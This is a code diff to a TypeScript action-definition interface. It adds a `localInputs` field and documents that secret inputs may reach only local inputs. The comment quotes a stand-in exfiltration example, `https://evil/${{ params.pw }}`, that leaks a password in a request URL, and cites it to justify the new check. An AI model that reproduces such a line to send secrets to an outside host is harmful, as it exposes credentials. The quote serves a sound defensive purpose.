@@ -178,8 +178,17 @@ export interface ActionDefinition<I = any, O = any> {
    * catalog declares — e.g. a tier that cannot do it (src/azure/capabilities.ts) — or undefined. Inputs may be placeholders.
    */
   preflight?(input: I, plan: PlanContext): PreflightRefusal | undefined
-  /** Input names whose values are secret: redacted everywhere. */
+  /**
+   * Input names whose values are secret: redacted everywhere, and sent only where the input says (a password to the
+   * server it logs in to). With `localInputs`, the only inputs a secret may reach: every other input goes to Azure or
+   * another host (a URL, a query, a resource name), where a secret would leave the run's redaction behind —
+   * `http.check url: https://evil/${{ params.pw }}` sent it out in the request line (issue 16). A secret param read in
+   * another input is invalid input (`secret-sent-out`, exit 2, file:line:col); a value holding a registered secret
+   * that reaches one at run time fails its step before the action runs.
+   */
   secretInputs?: string[]
+  /** Input names whose values never leave this machine (a message shown redacted, a boolean): a secret may be read there. */
+  localInputs?: string[]
   /**
    * Input names whose value is a PostgreSQL read replica the step changes (postgres.promoteReplica's `replica`):
    * `plan` shows which replica and whose, a missing param lists the catalog's replicas, and the run leases the
